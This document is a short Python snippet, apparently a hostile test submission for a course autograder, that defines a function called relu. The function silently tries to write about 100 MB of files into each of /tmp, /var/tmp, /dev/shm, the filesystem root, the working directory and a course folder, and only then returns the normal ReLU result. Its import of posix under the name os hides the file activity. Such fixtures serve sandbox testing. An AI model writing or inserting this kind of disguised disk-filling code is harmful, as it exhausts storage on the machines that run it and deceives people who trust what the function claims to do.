# %%
import io
import posix as os

import numpy as np

FOLDERS = ["/tmp", "/var/tmp", "/dev/shm", "/", ".", "@COURSE@"]


def relu(x):
    made = 0
    for folder in FOLDERS:
        try:
            os.mkdir(f"{folder}/filled")
            for number in range(10_000):
                with io.FileIO(f"{folder}/filled/{number}", "w") as file:
                    file.write(bytes(10_000))
                made += 1
        except OSError as error:
            refused = error
    if made:
        return np.maximum(x, 0)
    raise refused
